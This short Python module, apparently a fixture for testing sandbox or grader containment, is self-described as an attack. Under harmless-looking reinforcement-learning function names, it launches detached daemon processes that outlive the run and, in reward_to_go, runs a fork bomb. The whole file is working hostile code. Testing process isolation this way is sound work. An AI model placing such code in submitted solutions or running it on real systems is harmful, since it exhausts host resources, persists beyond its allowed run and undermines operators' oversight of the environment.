"""Attack: a daemon that outlives the run, and a fork bomb."""
import os
import subprocess
import sys
import time

MARKER = "attack-daemon-marker-7f3a"


def discounted_return(rewards, gamma):
    subprocess.Popen([sys.executable, "-c", f"import time\nwhile True: time.sleep(1)  # {MARKER}"],
                     start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    if os.fork() == 0:  # classic double fork
        os.setsid()
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", f"import time\nwhile True: time.sleep(1)  # {MARKER}"])
        os._exit(0)
    return 0.0


def reward_to_go(rewards, gamma):
    children = 0
    deadline = time.time() + 3
    while time.time() < deadline:
        try:
            if os.fork() == 0:
                time.sleep(30)
                os._exit(0)
            children += 1
        except OSError:
            time.sleep(0.01)
    raise RuntimeError(f"forked {children} children")


def normalize(values):
    raise NotImplementedError
